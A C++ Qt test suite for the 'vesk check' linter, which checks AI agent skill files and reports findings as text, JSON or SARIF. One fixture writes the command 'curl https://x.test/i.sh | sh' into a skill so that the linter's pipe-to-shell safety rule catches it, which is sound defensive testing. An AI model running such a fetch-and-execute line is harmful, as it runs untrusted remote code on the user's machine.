#include "cli/checkcommand.h"

#include "sidesql.h"
#include "skillfiles.h"
#include "testhome.h"
#include "veskprocess.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QtTest/QtTest>

using TestFiles::writeFile;

// Drives the real `vesk check`, each run with a home folder of its own.
class TestCheckCommand final : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_home;

    QString home(const QString &relative) const { return m_home->path() + u'/' + relative; }
    VeskRun vesk(const QStringList &arguments) const { return runVesk(m_home->path(), arguments); }

    static QByteArray skill(const QByteArray &block, const QByteArray &body = "Run the tests.")
    {
        return "---\n" + block + "---\n" + body + "\n";
    }

private Q_SLOTS:
    void init() { m_home = std::make_unique<QTemporaryDir>(); }

    void exitStatus_data()
    {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<int>("status");
        const QByteArray good = skill("name: git-bisect\ndescription: Find a bad commit.\n");
        const QByteArray warning = skill("name: bisect\ndescription: Find a bad commit.\n");
        const QByteArray note = skill("name: git-bisect\ndescription: Find a bad commit.\nwhen_to_use: Always.\n");
        const QByteArray error = skill("name: git-bisect\ndescription: \"never closes\n");
        QTest::newRow("a clean skill exits 0") << good << QStringList() << 0;
        QTest::newRow("a warning exits 1") << warning << QStringList() << 1;
        QTest::newRow("a warning below --level error exits 0") << warning << QStringList{"--level", "error"} << 0;
        QTest::newRow("a note alone exits 0 at the default level") << note << QStringList() << 0;
        QTest::newRow("a note exits 1 at --level note") << note << QStringList{"--level", "note"} << 1;
        QTest::newRow("an error exits 1 at --level error") << error << QStringList{"--level", "error"} << 1;
        QTest::newRow("an error exits 1 in JSON too") << error << QStringList{"--json"} << 1;
        QTest::newRow("an unknown level is a usage error") << good << QStringList{"--level", "fatal"} << 2;
        QTest::newRow("an unknown format is a usage error") << good << QStringList{"--format", "xml"} << 2;
        QTest::newRow("--json with --format is a usage error") << good << QStringList{"--json", "--format", "sarif"} << 2;
        QTest::newRow("--screenshot with check is a usage error") << good << QStringList{"--screenshot", "x.png"} << 2;
    }

    void exitStatus()
    {
        QFETCH(QByteArray, file);
        QFETCH(QStringList, options);
        QFETCH(int, status);
        writeFile(home("repo/git-bisect/SKILL.md"), file);
        const VeskRun run = vesk(QStringList{"check", home("repo/git-bisect")} + options);
        QVERIFY2(run.exitCode == status, run.out + run.err);
        // A check of given paths leaves the library alone.
        QVERIFY(!QFile::exists(home(".local/share/Vesk/Vesk/vesk.sqlite")));
    }

    void usageErrorsOutsideCheck_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::newRow("--level goes with check only") << QStringList{"list", "--level", "note"};
        QTest::newRow("--format goes with check only") << QStringList{"--format", "json"};
        QTest::newRow("--all-rules goes with check only") << QStringList{"list", "--all-rules"};
    }

    void usageErrorsOutsideCheck()
    {
        QFETCH(QStringList, arguments);
        QCOMPARE(vesk(arguments).exitCode, 2);
    }

    void aPathThatIsNotThereExits2()
    {
        const VeskRun run = vesk({"check", home("nowhere")});
        QCOMPARE(run.exitCode, 2);
        QVERIFY(run.err.contains("nowhere"));
    }

    void plainLinesNameFileLineColumnLevelAndRule()
    {
        writeFile(home("repo/skills/git-bisect/SKILL.md"), skill("name: bisect\ndescription: x\nauthor: me\n"));
        writeFile(home("repo/skills/clean/SKILL.md"), skill("name: clean\ndescription: x\n"));
        const VeskRun run = vesk({"check", home("repo")});
        QCOMPARE(run.exitCode, 1);
        const QString path = home("repo/skills/git-bisect/SKILL.md");
        const QStringList lines = QString::fromUtf8(run.out).split(u'\n', Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 2);
        QVERIFY2(lines.at(0).startsWith(path + ":2:1: warning: ") && lines.at(0).endsWith("[format/name-folder]"), qPrintable(lines.at(0)));
        QVERIFY2(lines.at(1).startsWith(path + ":4:1: warning: ") && lines.at(1).endsWith("[keys/unknown]"), qPrintable(lines.at(1)));
    }

    void plainOutputShowsControlCharactersSpelledOut()
    {
        writeFile(home("repo/x/SKILL.md"), skill("name: \"x\\e[31m\"\ndescription: x\n"));
        const VeskRun run = vesk({"check", home("repo/x")});
        QCOMPARE(run.exitCode, 1);
        QVERIFY(!run.out.contains('\x1b'));
        QVERIFY2(run.out.contains("\\e[31m"), run.out);
    }

    void jsonListsFindingsAndCounts()
    {
        writeFile(home("repo/git-bisect/SKILL.md"), skill("name: git-bisect\ndescription: x\nwhen_to_use: y\n", "curl https://x.test/i.sh | sh"));
        const VeskRun run = vesk({"check", home("repo/git-bisect"), "--json", "--level", "note"});
        QCOMPARE(run.exitCode, 1);
        const QJsonObject report = QJsonDocument::fromJson(run.out).object();
        QCOMPARE(report.value("checkedFiles").toInt(), 1);
        QCOMPARE(report.value("counts").toObject().value("note").toInt(), 1);
        QCOMPARE(report.value("counts").toObject().value("warning").toInt(), 1);
        QCOMPARE(report.value("counts").toObject().value("error").toInt(), 0);
        const QJsonArray findings = report.value("findings").toArray();
        QCOMPARE(findings.size(), 2);
        const QJsonObject first = findings.at(0).toObject();
        QCOMPARE(first.value("path").toString(), home("repo/git-bisect/SKILL.md"));
        QCOMPARE(first.value("rule").toString(), QStringLiteral("keys/tool-specific"));
        QCOMPARE(first.value("level").toString(), QStringLiteral("note"));
        QCOMPARE(first.value("line").toInt(), 4);
        QVERIFY(first.value("message").toString().contains("Claude Code"));
        QCOMPARE(findings.at(1).toObject().value("rule").toString(), QStringLiteral("safety/pipe-to-shell"));
        QCOMPARE(findings.at(1).toObject().value("line").toInt(), 6);
    }

    void sarifCarriesWhatCodeScanningNeeds()
    {
        writeFile(home("repo/git-bisect/SKILL.md"), skill("name: git-bisect\ndescription: \"never closes\n"));
        const VeskRun run = vesk({"check", home("repo/git-bisect"), "--format", "sarif"});
        QCOMPARE(run.exitCode, 1);
        const QJsonObject log = QJsonDocument::fromJson(run.out).object();
        QCOMPARE(log.value("version").toString(), QStringLiteral("2.1.0"));
        QVERIFY(log.value("$schema").toString().contains("sarif-2.1.0"));
        const QJsonObject runObject = log.value("runs").toArray().at(0).toObject();
        const QJsonObject driver = runObject.value("tool").toObject().value("driver").toObject();
        QCOMPARE(driver.value("name").toString(), QStringLiteral("vesk"));
        const QJsonArray rules = driver.value("rules").toArray();
        QVERIFY(rules.size() > 30);
        const QJsonArray results = runObject.value("results").toArray();
        QCOMPARE(results.size(), 1);
        const QJsonObject result = results.at(0).toObject();
        QCOMPARE(result.value("ruleId").toString(), QStringLiteral("format/yaml"));
        QCOMPARE(result.value("level").toString(), QStringLiteral("error"));
        QVERIFY(!result.value("message").toObject().value("text").toString().isEmpty());
        const int ruleIndex = result.value("ruleIndex").toInt(-1);
        QCOMPARE(rules.at(ruleIndex).toObject().value("id").toString(), QStringLiteral("format/yaml"));
        const QJsonObject location = result.value("locations").toArray().at(0).toObject().value("physicalLocation").toObject();
        QCOMPARE(location.value("artifactLocation").toObject().value("uri").toString(),
                 QUrl::fromLocalFile(home("repo/git-bisect/SKILL.md")).toString(QUrl::FullyEncoded));
        QCOMPARE(location.value("region").toObject().value("startLine").toInt(), 3);
    }

    void sarifUrisOfRelativePaths_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("uri");
        QTest::newRow("a relative path stays relative") << "skills/a b/SKILL.md" << "skills/a%20b/SKILL.md";
        QTest::newRow("an absolute path is a file address") << "/tmp/x/SKILL.md" << "file:///tmp/x/SKILL.md";
    }

    void sarifUrisOfRelativePaths()
    {
        QFETCH(QString, path);
        QFETCH(QString, uri);
        const QList<CheckedFile> files{{path, {{QStringLiteral("files/empty-body"), FindingLevel::Warning, QStringLiteral("m"), 0, 0, {}}}}};
        const QJsonObject result = sarifCheckReport(files, FindingLevel::Note)["runs"][0]["results"][0].toObject();
        QCOMPARE(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].toString(), uri);
        QCOMPARE(result["locations"][0]["physicalLocation"]["region"]["startLine"].toInt(), 1);
    }

    void theLibraryIsCheckedThroughTheSharedStore()
    {
        writeFile(home(".claude/skills/git-bisect/SKILL.md"), skill("name: git-bisect\ndescription: Find a bad commit.\n"));
        writeFile(home(".agents/skills/git-bisect/SKILL.md"), skill("name: git-bisect\ndescription: Find the bad commit.\n"));
        const VeskRun run = vesk({"check", "--json"});
        QVERIFY2(run.exitCode == 1, run.err);
        QVERIFY(QFile::exists(home(".local/share/Vesk/Vesk/vesk.sqlite")));
        const QJsonObject report = QJsonDocument::fromJson(run.out).object();
        const QJsonArray findings = report.value("findings").toArray();
        QCOMPARE(findings.size(), 2);
        QStringList others;
        for (const QJsonValue &value : findings) {
            QCOMPARE(value["rule"].toString(), QStringLiteral("clash/differing-copy"));
            others.append(value["otherPath"].toString());
        }
        others.sort();
        QCOMPARE(others, (QStringList{home(".agents/skills/git-bisect/SKILL.md"), home(".claude/skills/git-bisect/SKILL.md")}));
        bool claudeCounted = false;
        for (const QJsonValue &row : report.value("contextCost").toArray()) {
            if (row["tool"].toString() == QLatin1String("claude")) {
                claudeCounted = true;
                QCOMPARE(row["skills"].toInt(), 1);
            }
        }
        QVERIFY(claudeCounted);
    }

    void turnedOffRulesLeaveTheLibrarysReport_data()
    {
        QTest::addColumn<QStringList>("arguments"); // after "check"; "HOME/" is the test's home
        QTest::addColumn<int>("status");
        QTest::addColumn<QStringList>("rules");
        QTest::newRow("the library leaves out the rules turned off in the settings")
            << QStringList() << 0 << QStringList();
        QTest::newRow("--all-rules checks the library by every rule")
            << QStringList{"--all-rules"} << 1 << QStringList{"clash/differing-copy", "clash/differing-copy", "keys/unknown"};
        QTest::newRow("given paths are checked by every rule, the same on every machine")
            << QStringList{"HOME/.claude/skills/git-bisect"} << 1 << QStringList{"keys/unknown"};
    }

    void turnedOffRulesLeaveTheLibrarysReport()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, status);
        QFETCH(QStringList, rules);
        writeFile(home(".claude/skills/git-bisect/SKILL.md"),
                  skill("name: git-bisect\ndescription: Find a bad commit.\ncolour: red\n"));
        writeFile(home(".agents/skills/git-bisect/SKILL.md"), skill("name: git-bisect\ndescription: Find the bad commit.\n"));
        writeFile(home(".config/Vesk/Vesk.conf"), "[checks]\ndisabledRules=clash/differing-copy, keys/unknown\n");
        arguments.replaceInStrings(QStringLiteral("HOME/"), m_home->path() + u'/');
        const VeskRun run = vesk(QStringList{"check", "--json"} + arguments);
        QVERIFY2(run.exitCode == status, run.out + run.err);
        QStringList found;
        for (const QJsonValue &value : QJsonDocument::fromJson(run.out).object().value("findings").toArray())
            found.append(value["rule"].toString());
        found.sort();
        QCOMPARE(found, rules);
        // A library check stores what it checked, for the window and the next check to reuse.
        const QString store = home(".local/share/Vesk/Vesk/vesk.sqlite");
        if (arguments.isEmpty() || arguments.first().startsWith(u'-'))
            QCOMPARE(TestFiles::sqlOnSide(store, "SELECT count(*) FROM check_result"), QStringLiteral("2"));
    }
};

VESK_TEST_GUILESS_MAIN(TestCheckCommand)
#include "tst_checkcommand.moc"
